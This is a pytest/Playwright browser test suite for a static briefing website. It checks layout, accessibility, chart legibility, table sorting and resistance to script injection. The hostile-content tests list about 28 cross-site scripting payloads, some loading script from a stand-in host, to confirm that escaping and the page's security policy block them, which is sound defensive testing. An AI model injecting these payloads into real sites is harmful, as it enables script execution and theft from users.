"""The built site in a real Chromium: quiet, within its own host, readable by all, and not to be taken over.

The real content is looked at too, whatever its words; nothing else in the tests depends on it.
"""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterator
from typing import Any, Literal

import pytest
from lxml import html as lxml_html
from playwright.sync_api import Page

from generator.draw import labels
from tests.browser import (
    ALL,
    ALL_BUT_COLOURS,
    COLOURS_ALONE,
    KINDS,
    LOOKS,
    MOST_READ,
    NARROW,
    NARROWEST,
    WIDE,
    Browser,
    Look,
    Site,
    Window,
    keep_still,
    show_in,
    violations,
    wait_until,
)
from tests.hostile import PAYLOADS

pytestmark = pytest.mark.browser


# Of the real site what is most read, each week all: other words in the parts that the tiny site has all of.
LOOKED_AT = [
    *(pytest.param(("tiny", kind), id=f"tiny-{kind}") for kind in KINDS),
    *(
        pytest.param(("real", kind), id=f"real-{kind}", marks=[] if kind in MOST_READ else pytest.mark.long)
        for kind in KINDS
    ),
]


@pytest.fixture(scope="module", params=LOOKED_AT)
def opened(request: pytest.FixtureRequest, sites: dict[str, Site], window: Window) -> Window:
    """A page of each kind, of the tiny and of the real site."""
    name, kind = request.param
    window.page.set_viewport_size({"width": WIDE, "height": 900})
    window.open(sites[name], kind)
    return window


def test_a_page_never_scrolls_sideways(opened: Window) -> None:
    # Menus slide to their new place when the window changes; where they are on the way does not count.
    keep_still(opened.page)
    # 640 px is also what a window of 1280 px has left at twice the size.
    for width in (NARROWEST, NARROW, WIDE // 2, WIDE):
        opened.page.set_viewport_size({"width": width, "height": 900})
        # Two frames later the page is laid out for it.
        opened.page.evaluate("new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
        wide = opened.page.evaluate("document.documentElement.scrollWidth")
        assert wide <= width, f"{wide} px at {width} px"


# How wide each page is: its body in a document that is open, for the styles are those of all pages.
WIDE_AS = """async paths => {
    const found = {}
    for (const path of paths) {
        const text = await (await fetch(path)).text()
        document.body.replaceWith(new DOMParser().parseFromString(text, "text/html").body)
        found[path] = document.documentElement.scrollWidth
    }
    return found
}"""


@pytest.mark.parametrize("every", [4, pytest.param(1, marks=pytest.mark.long)])
def test_no_briefing_profile_or_list_scrolls_sideways_on_the_narrowest_phone(
    sites: dict[str, Site], browser: Browser, every: int
) -> None:
    site = sites["real"]
    # No script widens a page.
    context = browser.new_context(viewport={"width": NARROWEST, "height": 900}, java_script_enabled=False)
    page = context.new_page()
    page.goto(site.url)
    folders = ("briefings/", "places/", "organisations/", "topics/", "facts/about/")
    paths = [path for path in site.pages() if path.startswith(folders)][::every]
    wide = page.evaluate(WIDE_AS, [site.url + path for path in paths])
    context.close()
    assert len(wide) > 50
    assert {path: width for path, width in wide.items() if width > NARROWEST} == {}


def looks(opened: Window) -> Iterator[tuple[Look, dict[str, Any]]]:
    """In which ways a page is looked at, and by which rules."""
    if opened.site.name == "tiny":
        # All rules in two ways; what is most read is looked at in the other two as well, where colours alone are new.
        yield LOOKS[0], ALL
        yield LOOKS[3], ALL
        if opened.kind in MOST_READ:
            yield LOOKS[1], COLOURS_ALONE
            yield LOOKS[2], COLOURS_ALONE
    elif opened.kind in MOST_READ:
        yield LOOKS[0], ALL
        yield LOOKS[3], ALL
    else:
        # The same parts with other words in them, which bring no colour with them.
        yield LOOKS[list(KINDS).index(opened.kind) % 2], ALL_BUT_COLOURS


def test_a_page_can_be_used_by_all(opened: Window) -> None:
    # Colours on their way are nobody's colours.
    keep_still(opened.page)
    for (scheme, width), rules in looks(opened):
        show_in(opened.page, scheme)
        opened.page.set_viewport_size({"width": width, "height": 900})
        assert violations(opened.page, rules) == [], f"{scheme}, {width} px"


def test_a_page_asks_for_nothing_that_is_missing_or_elsewhere_and_complains_of_nothing(opened: Window) -> None:
    opened.page.wait_for_load_state("networkidle")
    assert opened.page.locator("h1").count() == 1
    # The theme's first script ran, and its others: the page's policy stopped none.
    assert opened.page.evaluate("typeof __md_scope") == "object"
    assert opened.page.evaluate("document.documentElement.classList.contains('js')")
    assert opened.faults == []


COLOURS = """[...document.querySelectorAll("body, h1, article p, article a, footer")].map(
    found => [getComputedStyle(found).color, getComputedStyle(found).backgroundColor])"""


@pytest.mark.parametrize("kind", ["home", "place", "fact"])
def test_without_script_text_and_dark_colours_are_the_same(sites: dict[str, Site], browser: Browser, kind: str) -> None:
    found = []
    for script in (True, False):
        context = browser.new_context(java_script_enabled=script, color_scheme="dark")
        page = context.new_page()
        page.goto(sites["tiny"].page(kind))
        shown = page.locator("article").inner_text(), page.evaluate(COLOURS)
        assert page.locator(".footer-links a:visible").count() >= 10
        found.append(shown)
        context.close()
    assert found[0] == found[1]
    assert found[0][1][0] == ["rgb(232, 237, 241)", "rgb(16, 24, 31)"]


def test_a_missing_page_at_any_depth_says_so_and_leads_home(sites: dict[str, Site], browser: Browser) -> None:
    site = sites["tiny"]
    page = browser.new_page()
    for path in ("none", "facts/none/", "a/b/c/d/e.html"):
        answer = page.goto(site.url + path)
        assert answer
        assert answer.status == 404
        assert page.evaluate("getComputedStyle(document.querySelector('.md-header')).borderTopStyle") == "solid"
        page.get_by_role("link", name="Latest briefing").click()
        assert page.url == site.url
    page.close()


# --- hostile content ---


def _runs(element: Any) -> str:
    """What of an element could run or load something; nothing for most."""
    handlers = [name for name in element.attrib if str(name).lower().startswith("on")]
    address = str(element.get("href") or element.get("src") or "").strip().lower()
    if handlers or address.startswith(("javascript:", "data:", "vbscript:")):
        return str(lxml_html.tostring(element)[:200])
    if element.tag in ("iframe", "object", "embed", "base", "img", "video", "audio"):
        return str(lxml_html.tostring(element)[:200])
    return ""


def test_hostile_texts_add_no_element_or_handler_to_any_page(sites: dict[str, Site]) -> None:
    tiny, hostile = sites["tiny"], sites["hostile"]
    assert hostile.pages() == tiny.pages()
    for path in hostile.pages():
        made, plain = (lxml_html.parse(str(site.folder / path)).getroot() for site in (hostile, tiny))
        # Spoilt names of terms stand in no text.
        for line in plain.cssselect("p.small:has(a[href*='glossary/#'])"):
            line.drop_tree()
        assert "PWNED" in made.text_content(), path
        assert [found for element in made.iter("*") if (found := _runs(element))] == [], path
        # Chinese is marked by a span, and what editors wrote in Markdown has elements of its own.
        if not path.startswith(("about", "methodology")):
            # A spoilt sentence has no number that leads to its fact, so it has the note of that fact, and an edited one
            # the words that went and came. A longer name of a chart's mark stands on more lines. Spoilt words of a
            # briefing between the first and those of now are not known as such, and listed with the first.
            of_briefing = {"li", "small"} if path.startswith("briefings/") else set()
            assert set(_elements(made) - _elements(plain)) <= {"sup", "del", "ins", "text", *of_briefing}, path


def _elements(root: Any) -> Counter[str]:
    return Counter(str(element.tag) for element in root.iter("*") if element.tag != "span")


# Opens pages one after the other in a frame; which of them were taken over. An image that is missing is asked for by
# a payload, so that it is waited for.
TAKEN_OVER = """async pages => {
    const found = []
    for (const [path, text] of pages) {
        const frame = document.createElement("iframe")
        frame.srcdoc = text
        const loaded = new Promise(done => frame.onload = done)
        document.body.append(frame)
        await loaded
        if (typeof frame.contentWindow.PWNED !== "undefined") found.push(path)
        frame.remove()
    }
    return found
}"""
POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="[^"]*">')
# What the theme adds to every page alike. Without the policy: escaping must do without that.
OF_THE_THEME = re.compile(rf'<script src=[^>]*></script>|<link rel="?stylesheet[^>]*>|{POLICY.pattern}')


@pytest.mark.parametrize("every", [5, pytest.param(1, marks=pytest.mark.long)])
def test_hostile_texts_run_on_no_page(sites: dict[str, Site], browser: Browser, every: int) -> None:
    """One page of each kind and every so many of the others; the test above reads each."""
    site = sites["hostile"]
    of_each_kind = {f"{site.page(kind).removeprefix(site.url)}index.html" for kind in KINDS if kind != "missing"}
    paths = of_each_kind | {*site.pages()[::every], "404.html"}
    pages = {path: OF_THE_THEME.sub("", (site.folder / path).read_text("utf-8")) for path in sorted(paths)}
    page = browser.new_page()
    page.goto(f"{site.url}llms.txt")  # a page without a policy, which its frames would have too
    page.set_content("<!doctype html><title>Frames</title>")
    spoilt = "<script>window.PWNED = true</script>", "<img src=x onerror=window.PWNED=true>"
    assert page.evaluate(TAKEN_OVER, list(enumerate(spoilt))) == [0, 1]
    assert page.evaluate(TAKEN_OVER, list(pages.items())) == []
    page.close()


# Markup that runs wherever it comes into a page as it is, one way each; the hostile texts are tried, too.
RUNNING = (
    "<script>window.PWNED=true</script>",
    "<script type=module>window.PWNED=true</script>",
    "<script src=data:text/javascript,window.PWNED=true></script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=window.PWNED=true>",
    "<svg onload=window.PWNED=true></svg>",
    "<svg><script>window.PWNED=true</script></svg>",
    "<svg><animate onbegin=window.PWNED=true attributeName=x dur=1s></svg>",
    "<body onload=window.PWNED=true>",
    "<body onpageshow=window.PWNED=true>",
    "<details open ontoggle=window.PWNED=true>",
    "<input autofocus onfocus=window.PWNED=true>",
    "<video><source onerror=window.PWNED=true></video>",
    "<audio src=x onerror=window.PWNED=true></audio>",
    "<iframe srcdoc='<script>parent.PWNED=true</script>'></iframe>",
    "<iframe src='javascript:parent.PWNED=true'></iframe>",
    "<object data='javascript:window.PWNED=true'></object>",
    "<embed src='javascript:window.PWNED=true'>",
    "<style onload=window.PWNED=true></style>",
    "<link rel=stylesheet href=data:text/css, onload=window.PWNED=true>",
    "<marquee onstart=window.PWNED=true>x</marquee>",
    "<math><maction xlink:href=javascript:window.PWNED=true>x</maction></math>",
    "<meta http-equiv=Content-Security-Policy content=script-src%20*><script>window.PWNED=true</script>",
    "<base href=https://evil.example/><script src=x.js></script>",
    "<a id=x href=javascript:window.PWNED=true>x</a><script>x.click()</script>",
    "<form id=x action=javascript:window.PWNED=true></form><script>x.submit()</script>",
    "<template><script>window.PWNED=true</script></template><img src=x onerror=window.PWNED=true>",
    "<noscript><p title='</noscript><img src=x onerror=window.PWNED=true>'></noscript>",
)


def test_with_escaping_switched_off_the_policy_lets_no_payload_run(sites: dict[str, Site], browser: Browser) -> None:
    """The second line of defence: each payload in a page with the policy of a page of ours, as it is."""
    site = sites["tiny"]
    found = POLICY.search((site.folder / "index.html").read_text("utf-8"))
    assert found
    payloads = [*RUNNING, *PAYLOADS]
    assert len(payloads) >= 60
    form = "<!doctype html><html><head>{}<title>x</title></head><body><main>{}</main></body></html>"
    page = browser.new_page()
    # A frame has the policy of the page that it stands in, so that there is none in that one.
    page.goto(f"{site.url}llms.txt")
    page.set_content("<!doctype html><title>Frames</title>")
    without, with_policy = (
        page.evaluate(TAKEN_OVER, [[str(n), form.format(meta, text)] for n, text in enumerate(payloads)])
        for meta in ("", found[0])
    )
    assert len(without) >= 15
    assert with_policy == []
    page.close()


def test_a_pages_policy_stops_nothing_of_ours(sites: dict[str, Site], browser: Browser) -> None:
    """What is most read, a chart in a frame and the search, and what a reader does there, without a word of the browser
    that it refused something. Of each other page the browser would have said so above."""
    site = sites["tiny"]
    context = browser.new_context(viewport={"width": WIDE, "height": 900})
    page = context.new_page()
    page.add_init_script(
        "window.refused = []; document.addEventListener('securitypolicyviolation', "
        "event => refused.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`))"
    )
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text) if "Content Security" in message.text else None)
    kinds = [site.page(kind) for kind in MOST_READ]
    embedded = sorted(site.folder.glob("charts/*/embed/index.html"))[0].parent.relative_to(site.folder).as_posix()
    for address in (*kinds, f"{site.url}{embedded}/", f"{site.url}search/?q=hall"):
        page.goto(address)
        assert (page.evaluate("refused"), said) == ([], []), address
        if "embed" not in address:
            # The theme's first script ran, and its others.
            assert page.evaluate("typeof __md_scope") == "object"
            wait_until(page, "document.documentElement.classList.contains('js')")
    page.goto(site.page("home"))
    page.locator("[data-md-component=palette] label").first.click()
    wait_until(page, "__md_get('__palette') !== null")
    assert page.evaluate("refused") == []
    context.close()


def test_hostile_texts_run_in_no_script_of_the_theme_and_in_no_search(sites: dict[str, Site], browser: Browser) -> None:
    site = sites["hostile"]
    context = browser.new_context(viewport={"width": WIDE, "height": 900}, bypass_csp=True)
    page = context.new_page()
    for kind in KINDS:
        page.goto(site.page(kind))
        assert page.evaluate("typeof window.PWNED") == "undefined", kind
    page.goto(f"{site.url}search/?q=x")
    for words in ("window PWNED", "<img src", "onerror", "x"):
        page.locator(".find input").fill(words)
        page.locator("h1").filter(has_text=words).wait_for()
        assert page.evaluate("typeof window.PWNED") == "undefined", words
        assert (
            page.locator("#found, h1, #found-count").locator("img, script:not([src]), iframe, [onerror]").count() == 0
        )
    context.close()


def test_a_payload_that_runs_would_be_seen(browser: Browser) -> None:
    page = browser.new_page()
    page.set_content("<img src=x onerror=window.PWNED=true>")
    page.wait_for_function("window.PWNED === true")
    page.close()


# --- drawings and comparisons ---

SEEN = """[...document.querySelectorAll("svg.plot")].filter(svg => svg.checkVisibility())"""
# Each text of the drawings that are seen: its words, its size on the screen, its rectangle.
TEXTS = f"""{SEEN}.map(svg => [...svg.querySelectorAll("text")].map(text => {{
    const box = text.getBoundingClientRect(), scale = svg.getBoundingClientRect().width / svg.viewBox.baseVal.width
    return [text.textContent, parseFloat(getComputedStyle(text).fontSize) * scale, box.x, box.y, box.right, box.bottom]
}}))"""


def drawings(page: Page) -> list[list[list[Any]]]:
    # Two frames later the page is laid out for the window.
    page.evaluate("new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
    found: list[list[list[Any]]] = page.evaluate(TEXTS)
    return found


@pytest.mark.parametrize("name", ["tiny", "real"])
@pytest.mark.parametrize("across", [NARROWEST, NARROW, 700, WIDE])
def test_the_words_of_a_drawing_can_be_read_and_do_not_touch(
    sites: dict[str, Site], window: Window, name: str, across: int
) -> None:
    window.page.set_viewport_size({"width": across, "height": 900})
    window.open(sites[name], "facts about one thing")
    found = drawings(window.page)
    assert found
    for texts in found:
        assert texts
        for words, size, *_ in texts:
            assert size >= (11 if across >= NARROW else 10.5), (words, size)
        for number, (one, _, left, top, right, bottom) in enumerate(texts):
            for other, _, x, y, to_x, to_y in texts[number + 1 :]:
                # A line of text is taller than its letters, so that two lines of one label may touch a little.
                touching = left < to_x and x < right and top < to_y - 4 and y < bottom - 4
                assert not touching, (across, one, other)


def test_one_of_two_drawings_is_seen_and_read(sites: dict[str, Site], window: Window) -> None:
    for across, size in ((WIDE, "wide"), (NARROW, "narrow")):
        window.page.set_viewport_size({"width": across, "height": 900})
        window.open(sites["tiny"], "place")
        first = window.page.locator(".drawing").first
        assert first.locator("svg").count() == 2
        assert first.locator(f".{size} svg").is_visible()
        assert first.locator("svg:visible").count() == 1
        assert first.get_by_role("group").count() == 1


def test_every_chart_has_words_a_table_and_a_file(sites: dict[str, Site]) -> None:
    charts = 0
    for site in (sites["tiny"], sites["real"]):
        for path in site.pages():
            page = lxml_html.parse(str(site.folder / path)).getroot()
            for measure in page.find_class("measure"):
                drawings = measure.xpath(".//*[local-name()='svg'][@role='img' or @class='plot']")
                charts += len(drawings)
                for drawing in drawings:
                    title, description = drawing[:2]
                    assert title.text_content().strip(), path
                    assert re.search(r"\d", description.text_content()), path
                (link,) = measure.xpath(".//a[contains(@href, '.csv')]/@href")
                rows = (site.folder / path).parent.joinpath(link).resolve().read_text("utf-8").count("\n") - 1
                # A chart tells below its table what it does not draw, and a result of two targets twice in it.
                shown = len(measure.xpath(".//tbody/tr"))
                assert min(shown, rows) > 1 if measure.find_class("plot") else shown == rows, path
                assert bool(drawings) == bool(measure.xpath(".//details")), path
    assert charts >= 4


def test_no_text_is_wider_than_a_drawing_reckons_with(sites: dict[str, Site], window: Window) -> None:
    window.page.set_viewport_size({"width": WIDE, "height": 900})
    window.open(sites["real"], "facts about one thing")
    # All letters and digits too, at the weight of what is weightiest.
    window.page.evaluate(
        "words => { const text = document.querySelector('svg.plot text[font-weight]'), made = text.cloneNode(); "
        "made.textContent = words; text.after(made) }",
        "0123456789 abcdefghijklmnopqrstuvwxyz ABCDEFGHIJKLMNOPQRSTUVWXYZ more than 1,204 billion – 33.7 % (£€$¥)",
    )
    found = window.page.evaluate(
        "[...document.querySelectorAll('svg.plot text')].map(text => [text.textContent, text.getComputedTextLength()])"
    )
    assert len(found) > 20
    assert [
        (text, long, labels.width(text, labels.FONT_SIZE))
        for text, long in found
        if long > labels.width(text, labels.FONT_SIZE)
    ] == []


# The tones and colours of what is drawn, but for what only guides the eye, and the colour of the page behind.
DRAWN = f"""[getComputedStyle(document.body).backgroundColor, {SEEN}.flatMap(svg =>
    [...svg.querySelectorAll("[class^=t-]:not(.t-hairline, .t-page)")].map(found => {{
        const style = getComputedStyle(found)
        return [found.tagName, found.classList[0], style.fill === "none" ? style.stroke : style.fill]
    }}))]"""


def _luminance(colour: str) -> float:
    parts = [int(part) / 255 for part in re.findall(r"\d+", colour)[:3]]
    linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
    return sum(weight * part for weight, part in zip((0.2126, 0.7152, 0.0722), linear, strict=True))


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_what_is_drawn_stands_out_from_the_page(
    sites: dict[str, Site], window: Window, scheme: Literal["light", "dark"]
) -> None:
    show_in(window.page, scheme)
    kinds = set()
    for name in ("tiny", "real"):
        window.open(sites[name], "facts about one thing")
        ground, drawn = window.page.evaluate(DRAWN)
        for element, tone, colour in drawn:
            kinds.add((element == "text", tone))
            dark, light = sorted((_luminance(ground), _luminance(colour)))
            assert (light + 0.05) / (dark + 0.05) >= (4.5 if element == "text" else 3), (name, element, tone, colour)
    show_in(window.page, "light")
    assert kinds >= {(False, "t-lead"), (False, "t-other"), (False, "t-odd"), (True, "t-ink"), (True, "t-second")}


def places_and_values(page: Page) -> list[tuple[str, str]]:
    """The rows of the first comparison: the place, and the value in the third column."""
    rows = page.locator(".compare tbody").first.locator("tr").all()
    return [
        (row.locator("td a").first.inner_text(), row.locator("td").nth(2).inner_text().split("\n")[0]) for row in rows
    ]


def test_a_comparison_is_sorted_with_the_keyboard_and_what_has_no_data_stays_last(
    sites: dict[str, Site], browser: Browser
) -> None:
    page = browser.new_page(viewport={"width": NARROW, "height": 900})
    page.goto(sites["tiny"].page("compare"))
    table = page.locator(".compare").first
    alphabetical = [place for place, _ in places_and_values(page)]
    assert alphabetical == ["Ferry Yard", "Quay Park", "Salt Works"]
    place, _, companies, _ = table.locator("th button").all()
    assert table.locator("th").nth(0).get_attribute("aria-sort") == "ascending"
    companies.focus()
    for direction, order in (
        ("descending", ["Salt Works", "Quay Park", "Ferry Yard"]),
        ("ascending", ["Quay Park", "Salt Works", "Ferry Yard"]),
    ):
        page.keyboard.press("Enter")
        assert [place for place, _ in places_and_values(page)] == order
        assert places_and_values(page)[-1][1] == "No data"
        assert table.locator("th").nth(2).get_attribute("aria-sort") == direction
        assert table.locator("[aria-sort]").count() == 1
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Space")
    assert [place for place, _ in places_and_values(page)] == alphabetical
    box = place.bounding_box()
    assert box
    assert box["height"] >= 24
    page.close()


def test_a_comparison_without_script_is_alphabetical_and_has_no_buttons(
    sites: dict[str, Site], browser: Browser
) -> None:
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(sites["tiny"].page("compare"))
    assert page.locator(".compare th button").count() == 0
    assert [place for place, _ in places_and_values(page)] == ["Ferry Yard", "Quay Park", "Salt Works"]
    context.close()


def test_the_names_stay_in_view_while_a_comparison_is_moved_sideways(sites: dict[str, Site], browser: Browser) -> None:
    page = browser.new_page(viewport={"width": NARROWEST, "height": 900})
    page.goto(sites["real"].page("compare"))
    frame = page.locator(".compare").first
    frame.evaluate("frame => { frame.scrollLeft = 10000 }")
    assert frame.evaluate("frame => frame.scrollLeft") > 0
    name, edge = frame.locator("tbody td").first.bounding_box(), frame.bounding_box()
    assert name
    assert edge
    assert abs(name["x"] - edge["x"]) <= 1
    page.close()


def test_the_script_that_sorts_is_small_and_asked_for_by_one_page(sites: dict[str, Site]) -> None:
    folder = sites["tiny"].folder
    assert len((folder / "javascripts/sort.js").read_bytes()) <= 2048
    asking = [path for path in sites["tiny"].pages() if "javascripts/sort.js" in (folder / path).read_text("utf-8")]
    assert asking == ["compare/index.html"]
